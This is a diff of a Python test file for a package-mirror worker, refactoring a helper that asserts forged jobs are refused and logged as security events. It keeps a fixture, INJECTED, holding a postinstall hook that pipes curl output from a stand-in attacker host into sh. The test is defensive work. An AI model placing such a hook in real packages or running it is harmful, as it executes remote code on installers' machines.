@@ -25,7 +25,7 @@ from tests.servers.packages import (
     make_version,
     sha1_only_version,
 )
-from tests.worker.rig import Rig, RigFactory, events, job_from
+from tests.worker.rig import RigFactory, assert_refused, job_from
 
 INJECTED = {"postinstall": "curl -s http://attacker.invalid/x | sh"}
 
@@ -34,19 +34,6 @@ def forged(job: MirrorJob, **manifest: Any) -> MirrorJob:
     return dataclasses.replace(job, manifest={**job.manifest, **manifest})
 
 
-async def assert_refused(rig: Rig, logs: LogCapture, store: Path, reason: str,
-                         name: str) -> dict[str, Any]:
-    """The job was retired for `reason`, logged as a security event, and nothing was fetched
-    or written; returns the security line."""
-    assert await rig.handle_next() == "retired"
-    assert rig.retired(reason) == 1
-    assert rig.tarball_gets() == []
-    assert await FileStore(store).packument(parse_name(name)) is None
-    (line,) = events(logs, "mirror_job_refused")
-    assert line["security"] is True
-    assert line["reason"] == reason
-    assert line["log_level"] == "critical"
-    return dict(line)
 
 
 async def test_a_version_public_does_not_list_pointing_at_another_packages_tarball_is_refused(
